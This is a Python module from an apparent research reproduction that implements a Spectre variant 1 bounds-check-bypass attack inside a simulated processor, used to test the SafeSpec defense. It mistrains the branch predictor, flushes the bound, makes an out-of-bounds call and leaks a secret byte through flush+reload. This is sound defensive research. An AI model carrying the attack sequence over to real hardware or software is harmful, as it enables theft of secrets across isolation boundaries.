"""Spectre variant 1: bounds-check bypass (paper Section II-B.2).

The victim gadget is the classic two-load sequence::

    if (offset < array1_size)
        y = array2[array1[offset] * 64];

The attack proceeds exactly as the paper describes:

a) train the branch predictor with in-bounds offsets so the bounds check
   predicts "in bounds";
b) flush ``array1_size`` so the check's resolution is delayed, opening a
   large speculation window;
c) call the victim with a malicious out-of-bounds offset that makes
   ``array1[offset]`` alias the secret; the transmitting load deposits a
   secret-indexed line in the cache (baseline) or the shadow (SafeSpec);
d) flush+reload the probe array to recover the secret.
"""

from __future__ import annotations


from repro.attacks.channels import FlushReloadChannel
from repro.attacks.gadgets import AttackLayout, warm_lines
from repro.api.registry import register_attack
from repro.attacks.runner import AttackResult
from repro.core.policy import CommitPolicy
from repro.isa.assembler import ProgramBuilder
from repro.isa.program import Program
from repro.machine import Machine
from repro.spec import MachineSpec

_TRAINING_RUNS = 6
_IN_BOUNDS_OFFSET = 1


def build_victim(layout: AttackLayout) -> Program:
    """The victim program.  The offset arrives in r1 (attacker input)."""
    b = ProgramBuilder(code_base=layout.victim_code)
    b.li("r2", layout.size_addr)
    b.load("r3", "r2", 0)                 # array1_size (flushed by attacker)
    b.li("r8", layout.array1)
    b.li("r9", layout.probe)
    b.branch("ge", "r1", "r3", "skip")    # the bounds check
    b.add("r10", "r8", "r1")
    b.load("r4", "r10", 0)                # array1[offset] -> secret when OOB
    b.alu("shl", "r5", "r4", imm=6)       # * 64 (one cache line per value)
    b.add("r11", "r9", "r5")
    b.load("r6", "r11", 0)                # transmit
    b.label("skip")
    b.halt()
    return b.build()


@register_attack("spectre_v1")
def run_spectre_v1(policy: CommitPolicy, secret: int = 42,
                   spec: MachineSpec = MachineSpec(),
                   backend: str = "cycle") -> AttackResult:
    """Run the full Spectre v1 attack under the given commit policy."""
    if not 0 <= secret <= 255:
        raise ValueError(f"secret must be a byte, got {secret}")
    layout = AttackLayout()
    machine = Machine.from_spec(spec, policy=policy, backend=backend)
    layout.map_user_memory(machine)
    machine.write_word(layout.size_addr, 16)
    machine.write_word(layout.secret_addr, secret)

    victim = build_victim(layout)
    channel = FlushReloadChannel(machine, layout.probe)

    # The victim has touched its own secret recently (it is the victim's
    # working data), so the in-window secret read is an L1 hit.
    warm_lines(machine, [layout.secret_addr], code_base=layout.helper_code)

    # a) mistrain the bounds check
    for _ in range(_TRAINING_RUNS):
        machine.run(victim,
                    initial_registers={1: _IN_BOUNDS_OFFSET})

    # b) flush the bound and the probe array
    machine.flush_address(layout.size_addr)
    channel.flush()

    # c) malicious call: offset aliases array1[offset] onto the secret
    malicious_offset = layout.secret_addr - layout.array1
    run = machine.run(victim, initial_registers={1: malicious_offset})

    # d) receive
    outcome = channel.reload()
    return AttackResult(
        attack="spectre_v1",
        policy=policy,
        secret=secret,
        leaked=outcome.value,
        details={
            "hot_slots": outcome.hot_slots,
            "victim_cycles": run.cycles,
            "mispredicts": run.counters.get("core.mispredicts", 0),
        },
    )
